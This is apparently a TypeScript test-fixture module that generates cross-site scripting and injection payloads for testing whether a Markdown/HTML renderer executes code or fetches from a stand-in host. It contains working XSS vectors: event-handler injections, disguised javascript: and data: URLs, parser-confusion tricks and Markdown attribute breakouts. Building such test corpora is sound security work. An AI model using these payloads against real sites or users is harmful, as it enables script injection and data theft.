import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import naughtyStrings from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };

/** What an attack runs where it gets through: it marks the page, and asks another host for something. */
const code = (host: string): string => `globalThis.ran=1;fetch('${host}/fetched')`;

const EVENTS = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'onclick',
    'onmouseover',
    'onpointerenter',
    'onanimationstart',
    'ontoggle',
  ],
  ...['onbegin', 'onscrollsnapchange', 'onbeforematch', 'oncontentvisibilityautostatechange', 'onauxclick'],
];
const ELEMENTS = [
  ...[
    'img src=x',
    'svg',
    'svg/',
    'body',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'details open',
    'marquee',
  ],
  ...[
    'iframe',
    'object data=x',
    'embed src=x',
    'x tabindex=1',
    'style',
    'link rel=stylesheet href=x',
    'math',
  ],
];

const elements = (host: string): string[] => [
  ...ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}="${code(host)}">`)),
  `<script>${code(host)}</script>`,
  `<SCRIPT SRC=${host}/a.js></SCRIPT>`,
  `<scr<script>ipt>${code(host)}</scr</script>ipt>`,
  `"><script>${code(host)}</script>`,
  `</textarea></title></style></script><script>${code(host)}</script>`,
  `<!--><script>${code(host)}</script>-->`,
  `<![CDATA[><script>${code(host)}</script>]]>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>${code(host)}</script></svg>`,
  `<svg><animate onbegin="${code(host)}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'></svg>#x"/></svg>`,
  `<svg><image href="${host}/svg.png"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code(host)}&gt;">`,
  `<iframe src="${host}/frame"></iframe><iframe srcdoc="<script>${code(host)}</script>"></iframe>`,
  `<object data="${host}/object"></object><embed src="${host}/embed">`,
  `<meta http-equiv=refresh content="0;url=${host}/refresh">`,
  `<base href="${host}/">`,
  `<link rel=stylesheet href="${host}/a.css"><link rel=prefetch href="${host}/p"><link rel=dns-prefetch href="${host}">`,
  `<style>@import '${host}/a.css'; * { background: url(${host}/b.png) }</style>`,
  `<p style="background: url(${host}/style.png)">text</p>`,
  `<img src="${host}/img.png" srcset="${host}/2x.png 2x"><input type=image src="${host}/input.png">`,
  `<video poster="${host}/poster.png" src="${host}/video.mp4" autoplay></video><audio src="${host}/a.mp3" autoplay></audio>`,
  `<form action="${host}/form"><button autofocus formaction="javascript:${code(host)}">press</button></form>`,
  `<a href="javascript:${code(host)}">press</a><a ping="${host}/ping" href="https://a.example">press</a>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${host}/speculated"]}]}</script>`,
  `<portal src="${host}/portal"></portal><fencedframe></fencedframe>`,
];

const SCHEMES = [
  'javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'file:///',
  'blob:',
  'filesystem:',
];
const MORE_SCHEMES = [
  'view-source:',
  'chrome://settings/',
  'chrome-extension://',
  'about:',
  'ws://',
  'ftp://',
  'intent:',
  'ms-settings:',
  'tel:',
  'sms:',
];

/** Ways to write an address that a browser may read as another. */
const disguises = (address: string): string[] => [
  address,
  address.toUpperCase(),
  ` ${address}`,
  `\t${address}`,
  `\u0001${address}`,
  `\u00a0${address}`,
  `\ufeff${address}`,
  `\u202e${address}`,
  address.replace(/^(.)/, '$1\t'),
  address.replace(/^(.)/, '$1\n'),
  address.replace(/^(.)/, '$1\r\n'),
  address.replace(/^(.)/, '$1\\'),
  address.replace(/^(.)/, '$1\0'),
  address.replace(/^(.)/, '$1%0a'),
  address.replace(':', '&colon;'),
  address.replace(':', '&#58;'),
  address.replace(':', '&#x3a'),
  address.replace(':', '%3A'),
  address.replace(':', '\\:'),
  address.replace(':', '\uff1a'),
  address.replace(/^./, (first) => `&#${first.charCodeAt(0)};`),
  address.replace(/^./, (first) => `&#0000${first.charCodeAt(0)}`),
  address.replace(/^./, (first) => `%${first.charCodeAt(0).toString(16)}`),
  `http:${address}`,
  `//${address}`,
  `/\\${address}`,
];

/** The addresses that no link and no picture may have. */
export const attackAddresses = (host: string): string[] => [
  ...SCHEMES.flatMap((scheme) => disguises(`${scheme}${code(host)}`)),
  ...MORE_SCHEMES.flatMap((scheme) => [`${scheme}a`, ` ${scheme}a`]),
  `javascript://a.example/%0a${code(host)}`,
  `javascript:/*https://a.example/*/${code(host)}`,
  `jav\u00adascript:${code(host)}`,
  `data:;base64,${Buffer.from(`<script>${code(host)}</script>`).toString('base64')}`,
  `data:image/svg+xml;base64,${Buffer.from(`<svg onload="${code(host)}"/>`).toString('base64')}`,
  `data:image/png,"><script>${code(host)}</script>`,
];

/** The ways in which Markdown makes a link or a picture. */
const inMarkdown = (address: string): string[] => [
  `[press](${address})`,
  `[press](<${address}>)`,
  `[press](${address} "title")`,
  `![picture](${address})`,
  `<${address}>`,
  `[press]\n\n[press]: ${address}`,
  `[![picture](${address})](${address})`,
];

const markdown = (host: string): string[] => [
  `![picture](${host}/picture.png)`,
  `![picture](${host}/p.png "title\\" onerror=${code(host)}")`,
  `[![picture](${host}/picture.png)](${host}/link)`,
  `![a"onerror="${code(host)}](x)`,
  `[a"onclick="${code(host)}](https://a.example)`,
  `[press](https://a.example "x\\" onclick=\\"${code(host)}")`,
  `[press](https://a.example/"onclick="${code(host)})`,
  `<https://a.example/"onclick="${code(host)}>`,
  `https://a.example/"onmouseover="${code(host)}`,
  `\`\`\`html"onclick="${code(host)}\n<script>${code(host)}</script>\n\`\`\``,
  `\`\`\`<script>${code(host)}</script>\ncode\n\`\`\``,
  `| a | <script>${code(host)}</script> |\n| --- | --- |\n| ![p](${host}/cell.png) | <img src=x onerror="${code(host)}"> |`,
  `> <script>${code(host)}</script>\n> ![p](${host}/quote.png)`,
  `- [ ] <img src=x onerror="${code(host)}">`,
  `[^1]\n\n[^1]: <script>${code(host)}</script>`,
  `# <script>${code(host)}</script>`,
  `<div>\n\n![p](${host}/div.png)\n\n</div>`,
  `&lt;script&gt;${code(host)}&lt;/script&gt;`,
  `<img src="x\` \`<script>${code(host)}</script>"\` \`>`,
  `[a]: javascript:${code(host)}\n[a][a] [a] ![a]`,
  `__proto__`,
  `constructor`,
  `{{constructor.constructor('${code(host)}')()}}`,
  `\${globalThis.ran=1}`,
];

/** Lists of other authors, in a folder that is not part of this project: one text a line. */
const more = (): string[] => {
  const folder = process.env.PARLEY_ATTACKS;
  if (folder === undefined) return [];
  return readdirSync(folder).flatMap((file) => readFileSync(join(folder, file), 'utf8').split('\n'));
};

/**
 * Texts that were made to run code or to load something in what shows them. `host`: an address that nothing may be
 * asked of. With `PARLEY_ATTACKS`, the name of a folder, the lines of its files too.
 */
export const attackTexts = (host: string): string[] => [
  // The Big List of Naughty Strings, by Max Woolf and others (MIT).
  ...naughtyStrings,
  ...elements(host),
  ...attackAddresses(host).flatMap((address, index) => inMarkdown(address)[index % 7] ?? []),
  ...markdown(host),
  ...more().filter((line) => line !== ''),
];
